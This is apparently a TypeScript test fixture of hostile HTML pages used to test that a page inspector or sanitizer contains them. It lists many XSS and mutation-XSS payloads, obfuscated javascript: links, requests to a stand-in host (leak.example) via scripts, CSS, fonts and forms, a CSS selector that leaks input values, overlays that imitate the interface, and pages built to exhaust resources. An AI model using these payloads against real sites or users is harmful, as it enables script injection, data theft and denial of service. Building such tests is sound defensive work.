// Pages that try to break out: to run code, to send a request, to open a window, to cover or stop the inspector.
// `pithRan` is the function that their scripts would call, `leak` a URL that must not be requested.

const LEAK = 'http://leak.example/';
const RUN = (name: string): string => `window.pithRan&&pithRan('${name}');alert('${name}')`;
const TEXT =
  '<h1>An ordinary heading</h1><p>A paragraph of ordinary text that stands on the page, so that there is something to find, and some more of it.</p>';

const body = (html: string): string => `<!doctype html><title>hostile</title><body>${TEXT}${html}${TEXT}`;

export const HOSTILE: Readonly<Record<string, () => string>> = {
  'a script': () => body(`<script>${RUN('script')}</script>`),
  'a script from elsewhere': () => body(`<script src="${LEAK}a.js"></script>`),
  'a module': () => body(`<script type=module>import '${LEAK}m.js';${RUN('module')}</script>`),
  'a script in svg': () => body(`<svg><script>${RUN('svg')}</script></svg>`),
  'a script in svg by href': () => body(`<svg><script href="${LEAK}a.js"></script></svg>`),
  'a handler on a broken picture': () => body(`<img src=x onerror="${RUN('onerror')}">`),
  'handlers on everything': () =>
    body(
      [
        'onload',
        'onfocus',
        'onpointerover',
        'ontoggle',
        'onbegin',
        'onanimationstart',
        'onscroll',
        'oncontentvisibilityautostatechange',
      ]
        .map((name) => `<div tabindex=0 autofocus ${name}="${RUN(name)}">x</div>`)
        .join(''),
    ),
  'a body with handlers': () => `<body onload="${RUN('body')}" onpageshow="${RUN('pageshow')}">${TEXT}`,
  'svg with a handler': () =>
    body(`<svg onload="${RUN('svgload')}"><animate onbegin="${RUN('begin')}" attributeName=x dur=1s>`),
  'javascript: links': () => body(`<a href="javascript:${RUN('link')}">click me, I am a link that runs</a>`),
  'javascript: with signs in it': () =>
    body(`<a href=" java\tscr\nipt:${RUN('link2')}">click</a><a href="&#106;avascript:${RUN('link3')}">x</a>`),
  'a frame that runs': () =>
    body(
      `<iframe src="javascript:${RUN('iframe')}"></iframe><iframe srcdoc="<script>parent.${RUN('srcdoc')}</script>"></iframe>`,
    ),
  'a frame from elsewhere': () =>
    body(`<iframe src="${LEAK}frame"></iframe><frameset><frame src="${LEAK}f"></frameset>`),
  'objects and embeds': () =>
    body(`<object data="${LEAK}o"></object><embed src="${LEAK}e"><applet code="${LEAK}a"></applet>`),
  'an object that runs': () => body(`<object data="data:text/html,<script>${RUN('object')}</script>"></object>`),
  'a base': () => `<base href="${LEAK}"><body><img src="a.png"><a href="b">x</a>${TEXT}`,
  'a refresh': () => `<meta http-equiv=refresh content="0;url=${LEAK}refresh"><body>${TEXT}`,
  'a refresh that runs': () => `<meta http-equiv=refresh content="0;url=javascript:${RUN('refresh')}"><body>${TEXT}`,
  'a policy that reports': () =>
    `<meta http-equiv=content-security-policy content="default-src *; report-uri ${LEAK}"><body>${TEXT}`,
  'links that load': () =>
    `<link rel=stylesheet href="${LEAK}a.css"><link rel=preload as=image href="${LEAK}p"><link rel=prefetch href="${LEAK}q"><link rel=dns-prefetch href="//leak.example"><link rel=preconnect href="${LEAK}"><link rel=icon href="${LEAK}i"><link rel=manifest href="${LEAK}m"><link rel=modulepreload href="${LEAK}j"><body>${TEXT}`,
  'pictures from elsewhere': () =>
    body(
      `<img src="${LEAK}a.png" srcset="${LEAK}b.png 2x"><picture><source srcset="${LEAK}c.png"><img src="${LEAK}d.png"></picture><input type=image src="${LEAK}e.png"><video poster="${LEAK}f.png" src="${LEAK}g.mp4" autoplay></video><audio src="${LEAK}h.mp3" autoplay></audio><svg><image href="${LEAK}i.png"/><feImage href="${LEAK}j.png"/></svg>`,
    ),
  'old backgrounds': () =>
    `<body background="${LEAK}b.png"><table background="${LEAK}t.png"><tr><td background="${LEAK}d.png">${TEXT}`,
  '@import': () => `<style>@import url(${LEAK}a.css);@import "${LEAK}b.css";</style><body>${TEXT}`,
  'addresses in style sheets': () =>
    `<style>body{background:url(${LEAK}a.png)}p{list-style-image:url("${LEAK}b.png");cursor:url(${LEAK}c.cur),auto;border-image:url('${LEAK}d.png')}h1::before{content:url(${LEAK}e.png)}p{mask:url(${LEAK}f.svg);filter:url(${LEAK}g.svg#x)}</style><body>${TEXT}`,
  'addresses with escapes': () =>
    `<style>body{background:\\75 rl(${LEAK}a.png)}p{background:u\\72l(${LEAK}b.png)}h1{background:image-set("${LEAK}c.png" 1x)}</style><body>${TEXT}`,
  'addresses in variables': () =>
    `<style>:root{--a:url(${LEAK}a.png)}body{background:var(--a)}@property --b{syntax:"<image>";inherits:true;initial-value:url(${LEAK}b.png)}p{background:var(--b)}</style><body>${TEXT}`,
  fonts: () => `<style>@font-face{font-family:x;src:url(${LEAK}f.woff2)}*{font-family:x}</style><body>${TEXT}`,
  'addresses in style attributes': () =>
    body(`<p style="background:url(${LEAK}a.png)">x</p><p style='background:image("${LEAK}b.png")'>y</p>`),
  'selectors that read along': () =>
    `<style>input[value^=a]{background:url(${LEAK}a)}p:has(~p){background:url(${LEAK}has)}</style><body><input value=abc>${TEXT}`,
  'forms that send': () =>
    body(
      `<form action="${LEAK}f" id=f><button formaction="javascript:${RUN('form')}" autofocus>go</button></form><isindex action="${LEAK}">`,
    ),
  'links that ping': () =>
    body(
      `<a href="${LEAK}a" ping="${LEAK}p" target=_top>a link out of the frame</a><a href="${LEAK}b" target=_blank>new</a>`,
    ),
  'css over everything': () =>
    `<style>body::after,div{content:"";position:fixed!important;inset:0!important;z-index:2147483647!important;background:#f00!important;display:block}</style><body><div style="position:fixed!important;inset:-500px!important;z-index:2147483647!important;pointer-events:all!important">x</div>${TEXT}`,
  'css that hides the page': () =>
    `<style>html,body,*{display:none!important;visibility:hidden!important;opacity:0!important}html{transform:scale(0)!important}</style><body>${TEXT}`,
  'css that grows': () =>
    `<style>html,body{height:100000000px!important;width:100000000px!important}p{font-size:100000px;letter-spacing:99999px;margin:9999999px}</style><body>${TEXT}`,
  'css that never rests': () =>
    `<style>@keyframes a{from{width:1px}to{width:9999px}}*{animation:a 1ms infinite;transition:all 1ms}</style><body>${TEXT}`,
  'css that imitates': () =>
    `<style>body::before{content:"Pith: click to continue";position:fixed;top:0;left:0;right:0;background:#fff;z-index:99}</style><body>${TEXT}`,
  'a dialog of its own': () =>
    body(
      '<dialog open style="position:fixed;inset:0">in the way</dialog><div popover=manual id=p>pop</div><button popovertarget=p autofocus>x</button>',
    ),
  'names of the document': () =>
    body(
      '<img name=body><form id=documentElement name=createElement><input name=attributes><input name=parentNode></form><img name=getElementById><a id=contentDocument>x</a>',
    ),
  'templates and shadow roots': () =>
    body(
      `<template><img src=x onerror="${RUN('template')}"></template><div><template shadowrootmode=open><script>${RUN('shadow')}</script><img src="${LEAK}s.png"></template></div>`,
    ),
  'mutation: noscript': () =>
    body(`<noscript><p title="</noscript><img src=x onerror=${RUN('mxss1').replaceAll("'", '&#39;')}>">`),
  'mutation: math and style': () =>
    body(
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN('mxss2').replaceAll("'", '')}&gt;">`,
    ),
  'mutation: svg and style': () =>
    body(`<svg></p><style><a id="</style><img src=1 onerror=${RUN('mxss3').replaceAll("'", '')}>">`),
  'mutation: nested forms': () =>
    body(`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN('mxss4').replaceAll("'", '')}>`),
  'mutation: comments': () =>
    body(
      `<!--><img src=x onerror=${RUN('mxss5').replaceAll("'", '')}>--><!-- --!><img src=x onerror=${RUN('mxss6').replaceAll("'", '')}>`,
    ),
  'mutation: textarea and title': () =>
    body(
      `<textarea></textarea><title><img src=x onerror=${RUN('mxss7').replaceAll("'", '')}></title><xmp></xmp><listing>&lt;img onerror=${RUN('mxss8').replaceAll("'", '')} src=x&gt;</listing><plaintext>`,
    ),
  'mutation: annotation-xml': () =>
    body(
      `<math><annotation-xml encoding="text/html"><style><img src onerror=${RUN('mxss9').replaceAll("'", '')}></style></annotation-xml></math>`,
    ),
  'mutation: attributes with backticks and nulls': () =>
    body(
      `<p title="\`&quot;><img src=x onerror=${RUN('mxss10').replaceAll("'", '')}>" class="\0" id="a&#0;b">x</p><a\0b onclick=x>y</a\0b><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN('xml')}</x:script>`,
    ),
  'names that are none': () =>
    body(
      `<a"b onmouseover=${RUN('name').replaceAll("'", '')}>x</a"b><1>y</1><p =onerror= <img src=x>z</p><${'x'.repeat(5_000)}>long</p>`,
    ),
  'very deep': () => `<body>${'<div><b>'.repeat(40_000)}${TEXT}`,
  'ten megabytes': () => body(`<p>${'Ordinary words of an ordinary text. '.repeat(1_000)}</p>`.repeat(290)),
  'two hundred thousand segments': () => body('<p>word</p>'.repeat(200_000)),
};
